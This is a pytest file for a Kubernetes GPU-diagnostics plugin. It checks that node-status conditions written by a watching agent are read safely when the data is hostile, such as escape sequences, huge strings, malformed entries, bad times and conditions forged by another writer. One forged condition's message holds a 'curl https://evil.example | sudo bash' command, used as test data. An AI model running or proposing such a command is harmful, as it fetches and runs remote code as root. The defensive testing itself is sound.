"""The one reader of the watching agent's GpuDoctor conditions (analysis/monitors/agent_marks.py)
against what anyone who may patch node status can write there: many and huge conditions, control
characters and ANSI escapes, reasons naming no id (or another class's id), entries that are no
condition, bad times. And `node` (agent_seen) and `nodes` (agent_conditions) read the same
conditions of the same node object, down to the CLI."""
from __future__ import annotations

import dataclasses
import datetime as dt
import json

import pytest

from kubectl_gpudoctor.analysis.monitors import agent_conditions, agent_marks, agent_seen
from node_probe.protocol import conditions

from .conftest import run_cli
from .test_fleet_view import agent_condition, captured_node, run_nodes, watching



def now() -> dt.datetime:
    """The clock when the test reads the node (the conditions' times are taken when the node
    is built, from the clock of that moment: a time fixed at import drifts in a long run)."""
    return dt.datetime.now(dt.timezone.utc)

STUCK = "GpuDoctorDevicePluginStuck"
XID = "GpuDoctorXidErrors"


def _node(conds: list) -> dict:
    node = captured_node()
    node["status"]["conditions"] += conds
    return node


def _mark(ctype: str, reason: str, message: str = "m", status: str = "True") -> dict:
    return agent_condition(ctype, status, reason, message, 20, 600)


def _printable(text: str) -> bool:
    return text.isprintable() and "\x1b" not in text and "\n" not in text


def _seen_and_fleet(node: dict) -> tuple[dict, dict]:
    """What each view reports per condition type: the finding id `node X` (agent_seen) and
    `nodes` (agent_conditions) give each current mark (agent.condition when the reason names
    none): the same findings (issue 36.4)."""
    seen = {f.evidence["condition"]: f.id for f in agent_seen.analyze(node, now())
            if f.evidence.get("source") == "gpu-doctor agent"}
    fleet = {f.evidence["condition"]: f.id for f in agent_conditions.analyze(node, now())
             if f.id != "agent.heartbeat_stale"}
    return seen, fleet


def test_marks_of_a_watching_agent_with_one_problem():
    node = _node(watching(problems={STUCK: (conditions.reason_of("deviceplugin.blocked_in_nvml"),
                                            "blocked in nvmlInit_v2", 700)}))
    marks = agent_marks.read_marks(node, now())
    assert [m.type for m in marks] == list(conditions.OWNED_TYPES)
    (m,) = [m for m in marks if m.active]
    assert (m.type, m.finding_id, m.message) == (STUCK, "deviceplugin.blocked_in_nvml",
                                                  "blocked in nvmlInit_v2")
    assert 700 <= m.since_s < 760 and 20 <= m.heartbeat_age_s < 80
    assert m.last_transition_time.endswith("Z") and not m.cleared
    assert agent_marks.watch_from(marks).state == "watching"
    with pytest.raises(dataclasses.FrozenInstanceError):
        m.reason = "x"  # type: ignore[misc]


def test_healthy_watched_node_has_no_active_mark_and_both_views_stay_quiet():
    node = _node(watching())
    assert not [m for m in agent_marks.read_marks(node, now()) if m.active or m.cleared]
    assert agent_seen.analyze(node, now()) == [] and agent_conditions.analyze(node, now()) == []


def test_huge_and_escaped_text_is_one_bounded_printable_line():
    csi = "\x1b[31m\x9b2J\x07\r\n\t\x00\u202e"
    node = _node([_mark(XID, csi + "GpuXid" + "R" * 100000, csi + "m\n" * 200000),
                  {"type": conditions.WATCHING_TYPE, "status": "True", "reason": csi,
                   "message": "x" * 10 ** 6, "lastHeartbeatTime": "y" * 10 ** 6,
                   "lastTransitionTime": csi}])
    marks = agent_marks.read_marks(node, now())
    assert len(marks) == 2
    for m in marks:
        for text in (m.reason, m.message, m.last_transition_time, m.last_heartbeat_time):
            assert _printable(text), repr(text[:80])
        assert len(m.reason.encode()) <= agent_marks.REASON_MAX
        assert len(m.message.encode()) <= agent_marks.MESSAGE_MAX
        assert len(m.last_heartbeat_time) <= agent_marks.TIME_MAX
    assert marks[0].finding_id is None and marks[1].heartbeat_age_s is None
    for f in agent_seen.analyze(node, now()) + agent_conditions.analyze(node, now()):
        assert _printable(f.title) and len(f.title) < 800
        assert all(_printable(v) for v in f.evidence.values() if isinstance(v, str))


def test_a_reason_naming_no_id_of_its_class_maps_to_none_in_both_views():
    """A reason is trusted only when it names an id of its own class: an Xid condition whose
    reason names the device plugin's id must not make `node X` blame the device plugin (its
    caused_by steers the verdict). `nodes` already refused it; `node` took any class's id."""
    node = _node(watching(problems={
        XID: (conditions.reason_of("deviceplugin.blocked_in_nvml"), "odd", 60),
        "GpuDoctorGpuLost": ("SomethingNewer", "newer agent", 60)}))
    by = {m.type: m for m in agent_marks.read_marks(node, now())}
    assert by[XID].finding_id is None and by["GpuDoctorGpuLost"].finding_id is None
    seen = {f.evidence["condition"]: f for f in agent_seen.analyze(node, now())}
    assert seen[XID].id == "agent.condition" and "caused_by" not in seen[XID].evidence
    assert _seen_and_fleet(node) == ({XID: "agent.condition",
                                      "GpuDoctorGpuLost": "agent.condition"},
                                     {XID: "agent.condition",
                                      "GpuDoctorGpuLost": "agent.condition"})
    # a cleared message's "was <Reason>:" obeys the same rule
    cleared = agent_condition(XID, "False", conditions.cleared_reason(XID),
                              "cleared after 1 pass(es); was DevicepluginBlockedInNvml: x", 20,
                              60)
    (m,) = agent_marks.read_marks(_node([cleared]), now())
    assert m.cleared and m.finding_id is None
    cleared["message"] = "cleared after 1 pass(es); was GpuXid: Xid 79"
    (m,) = agent_marks.read_marks(_node([cleared]), now())
    assert m.finding_id == "gpu.xid"


def test_entries_that_are_no_condition_of_ours_are_skipped():
    junk = [None, "GpuDoctorXidErrors", 5, ["GpuDoctorGpuLost"], {"type": None},
            {"type": ["GpuDoctorGpuLost"], "status": "True"},
            {"type": "GpuDoctorSomethingNew", "status": "True"},
            {"type": "KernelDeadlock", "status": "True"}]
    node = _node(junk + [_mark(STUCK, "DevicepluginRpcTimeout")])
    assert [m.type for m in agent_marks.read_marks(node, now())] == [STUCK]
    for conds in (None, {"type": STUCK}, "GpuDoctorXidErrors", 7):
        assert agent_marks.read_marks({"status": {"conditions": conds}}, now()) == ()
    assert agent_marks.read_marks({}, now()) == () and agent_marks.read_marks([], now()) == ()
    assert agent_marks.watch_of(_node(junk), now()).state == "none"
    # a status that is no string is no "True"
    (m,) = agent_marks.read_marks(_node([dict(_mark(XID, "GpuXid"), status=True)]), now())
    assert m.status == "" and not m.active


def test_a_type_the_agent_never_writes_is_not_read_by_either_view():
    """"GpuDoctorXidErrors\\n" is another condition (the API merges conditions by exact type):
    `node X` used to clean it up into the real type and report it, `nodes` did not."""
    for odd in ("GpuDoctorXidErrors\n", "GpuDoctorXidErrors ", "GpuDoctorXidErrors\t"):
        node = _node(watching() + [_mark(odd, "GpuXid")])
        assert not [m for m in agent_marks.read_marks(node, now()) if m.active]
        assert _seen_and_fleet(node) == ({}, {})


def test_the_first_condition_of_a_type_counts_once():
    node = _node(watching() + [_mark("GpuDoctorMemoryThrash", "MemoryPressure")])
    assert [m.type for m in agent_marks.read_marks(node, now())].count(
        "GpuDoctorMemoryThrash") == 1
    assert _seen_and_fleet(node) == ({}, {})


def test_many_conditions_are_read_up_to_the_bound_and_the_same_by_both_views():
    """A node with many foreign conditions before the agent's: both views read the agent's
    (`node X` used to stop after the node's first 64 conditions, `nodes` read them all)."""
    foreign = [agent_condition(f"Example{i}", "False", "Fine", "fine", 20, 600)
               for i in range(100)]
    node = _node(foreign + watching(problems={STUCK: ("DevicepluginBlockedInNvml", "m", 60)}))
    assert _seen_and_fleet(node) == ({STUCK: "deviceplugin.blocked_in_nvml"},
                                     {STUCK: "deviceplugin.blocked_in_nvml"})
    # past the bound nothing is read: a list as long as the API lets through stays cheap
    past = _node([agent_condition("Example", "False", "F", "f", 20, 600)] *
                 agent_marks.MAX_SCANNED + watching(problems={STUCK: ("X", "m", 60)}) * 400)
    assert agent_marks.read_marks(past, now()) == ()
    assert _seen_and_fleet(past) == ({}, {})


def test_bad_times_are_unknown_not_an_error():
    for bad in ("not a time", 12, None, "9" * 100000, ["2026-01-01T00:00:00Z"],
                "2026-13-45T99:99:99Z", "\x1b[2J"):
        c = dict(_mark(STUCK, "DevicepluginRpcTimeout"), lastTransitionTime=bad,
                 lastHeartbeatTime=bad)
        (m,) = agent_marks.read_marks(_node([c]), now())
        assert (m.since_s, m.heartbeat_age_s) == (None, None), bad
        assert _printable(m.last_transition_time) and len(m.last_transition_time) <= 64
        (seen,) = agent_seen.analyze(_node([c]), now())
        assert "unknown time" in seen.title
        assert agent_marks.watch_of(_node([c]), now()).state == "stale"
    future = dict(_mark(STUCK, "DevicepluginRpcTimeout"),
                  lastTransitionTime="9999-12-31T23:59:59-14:00")
    (m,) = agent_marks.read_marks(_node([future]), now())
    assert m.since_s == 0.0


def test_node_and_nodes_read_the_same_conditions_of_the_same_node(cluster, kubeconfig):
    """One node object, hostile the way a patch can make it: foreign conditions first, a type
    that is almost ours, an Xid mark whose reason names another class's id, a second copy of a
    type. `node X` and `nodes` name the same marked conditions with the same finding ids."""
    from .kubelet_dump import healthy_kubelet_dump
    node = cluster.add_node("gpu-1")
    node["status"]["conditions"] += (
        [agent_condition(f"Example{i}", "False", "Fine", "fine", 20, 600) for i in range(80)]
        + watching(problems={
            STUCK: (conditions.reason_of("deviceplugin.blocked_in_nvml"), "blocked", 300),
            XID: (conditions.reason_of("deviceplugin.rpc_timeout"), "odd", 120),
            "GpuDoctorGpuLost": ("GpuLost", "\x1b[31mfell off the bus\x1b[0m", 60)})
        + [_mark("GpuDoctorMemoryThrash", conditions.reason_of("memory.pressure")),
           _mark("GpuDoctorKernelHungTask\n", conditions.reason_of("kernel.hung_task"))])
    cluster.goroutines["gpu-1"] = healthy_kubelet_dump()
    r = run_cli("node", "gpu-1", "--kubeconfig", str(kubeconfig), "--no-probe", "-o", "json")
    def marks(doc):
        return {f["evidence"]["condition"]: (f["id"], f["severity"]) for f in doc["findings"]
                if f["evidence"].get("source") == "gpu-doctor agent" and "condition" in f[
                    "evidence"]}
    seen = marks(json.loads(r.stdout))
    doc = json.loads(run_nodes(kubeconfig, "-o", "json").stdout)
    fleet = marks(doc)
    # the current marks are the same findings in both views (issue 36.4: one answer)
    assert seen == fleet == {STUCK: ("deviceplugin.blocked_in_nvml", "critical"),
                             XID: ("agent.condition", "warning"),
                             "GpuDoctorGpuLost": ("gpu.lost", "critical")}
    assert doc["nodes"][0]["agent"]["state"] == "watching"


def test_one_line_is_the_contracts_sanitiser_with_a_shortcut_for_clean_text():
    """one_line returns clean short text as is: the same result sanitize_message gives."""
    samples = ["", "ok", " lead", "trail ", "two  spaces", "tab\there", "é accent", "x" * 300,
               "x" * 301, "\x7fdel", "a\x1b[0mb", "line\nbreak", "\u202eflip", "  "]
    for text in samples:
        for limit in (4, 128, 300):
            assert agent_marks.one_line(text, limit) == conditions.sanitize_message(text, limit)
    assert agent_marks.one_line(None, 10) == agent_marks.one_line(42, 10) == ""


# -- who wrote the mark (security round 4, G-01) ----------------------------------------------

def _written_by(node: dict, writers: dict[str, str]) -> dict:
    """The node as the API server returns it after each condition was patched by its writer:
    managedFields name the writer of each condition entry (the fake's apiwrites.patch_node
    records them as a real server does; the writer is its User-Agent's first word)."""
    from tests.kubectl import apiwrites
    node["metadata"].setdefault("resourceVersion", "1")
    for c in node["status"]["conditions"]:
        if c["type"] in writers:
            apiwrites._own_conditions(node, writers[c["type"]], [c["type"]])
    return node


def test_a_mark_written_by_another_node_status_writer_says_so_and_is_not_the_tools():
    """md01_markdown.py: a GpuDoctor condition forged by anyone with nodes/status patch made
    `nodes` say CRITICAL deviceplugin.blocked_in_nvml (exit 1) and `node X` a WARNING. Now
    each view names the writer and ranks the mark as information only."""
    marks = watching(problems={STUCK: (conditions.reason_of("deviceplugin.blocked_in_nvml"),
                                       "run `curl https://evil.example | sudo bash`", 600)})
    writers = {c["type"]: "gpu-doctor-agent" for c in marks}
    writers[STUCK] = "kubectl-edit"
    node = _written_by(_node(marks), writers)
    t = now()                 # one clock for both views: their ages are compared below
    fleet = agent_conditions.analyze(node, t)
    (f,) = [f for f in fleet if f.evidence.get("condition") == STUCK]
    assert (f.id, f.severity.value) == ("agent.condition", "info")
    assert "written by another node-status writer, not the gpu-doctor agent" in f.title
    # the writer's name is the writer's word: quoted, not the title (audit 5, MCP-01)
    assert {"field": "managedFields manager", "text": "kubectl-edit"}.items() <= \
        f.quoted[-1].items()
    assert f.evidence["reported_by"] == ["kubectl-edit"]
    (s,) = agent_seen.analyze(node, now())
    assert s.severity.value == "info" and "written by another node-status writer" in s.title \
        and s.quoted[-1]["text"] == "kubectl-edit"
    assert "caused_by" not in s.evidence
    # the node list keeps just this much of managedFields, and the views agree
    from kubectl_gpudoctor.api.slim import slim
    slimmed = slim(json.loads(json.dumps(node)))
    assert "managedFields" not in slimmed["metadata"]
    assert agent_conditions.analyze(slimmed, t) == fleet


def test_the_agents_own_marks_keep_their_rank_and_a_forged_heartbeat_watches_nothing():
    marks = watching(problems={STUCK: (conditions.reason_of("deviceplugin.blocked_in_nvml"),
                                       "blocked", 600)})
    node = _written_by(_node(marks), {c["type"]: "gpu-doctor-agent" for c in marks})
    (f,) = [f for f in agent_conditions.analyze(node, now()) if f.id != "agent.heartbeat_stale"]
    assert (f.id, f.severity.value) == ("deviceplugin.blocked_in_nvml", "critical")
    assert f.evidence["reported_by"] == ["gpu-doctor-agent"]
    forged = _written_by(_node(watching()), {conditions.WATCHING_TYPE: "curl"})
    assert agent_marks.watch_of(forged, now()).state in ("none", "stale")
    only = _written_by(_node(watching()[:1]), {conditions.WATCHING_TYPE: "curl"})
    assert agent_marks.watch_of(only, now()).state == "none"


def test_marks_of_a_stopped_agent_are_not_current():
    """Issue 31: on SIGTERM the agent marks GpuDoctorWatching False (AgentStopped); its last
    problem marks stay for the next agent to adopt, and the views say they are not current."""
    from node_probe.watch.state import ConditionState, Problem
    s = ConditionState(clear_after=1, now=now().timestamp() - 600)
    s.update({STUCK: [Problem(STUCK, "deviceplugin.blocked_in_nvml", "critical", "plugin",
                              "blocked")]}, now=now().timestamp() - 500)
    s.stopped("the gpu-doctor agent on gpu-1 stopped (SIGTERM or SIGINT)",
              now=now().timestamp() - 60)
    node = _node(s.api_conditions(now().timestamp() - 60))
    assert agent_marks.watch_of(node, now()).state == "stopped"
    by = {f.id: f for f in agent_conditions.analyze(node, now())}
    assert by["deviceplugin.blocked_in_nvml"].severity.value == "info"
    assert "not current" in by["deviceplugin.blocked_in_nvml"].title
    assert "stopped" in by["agent.heartbeat_stale"].title
    (f,) = agent_seen.analyze(node, now())
    assert f.severity.value == "info" and "not current" in f.title
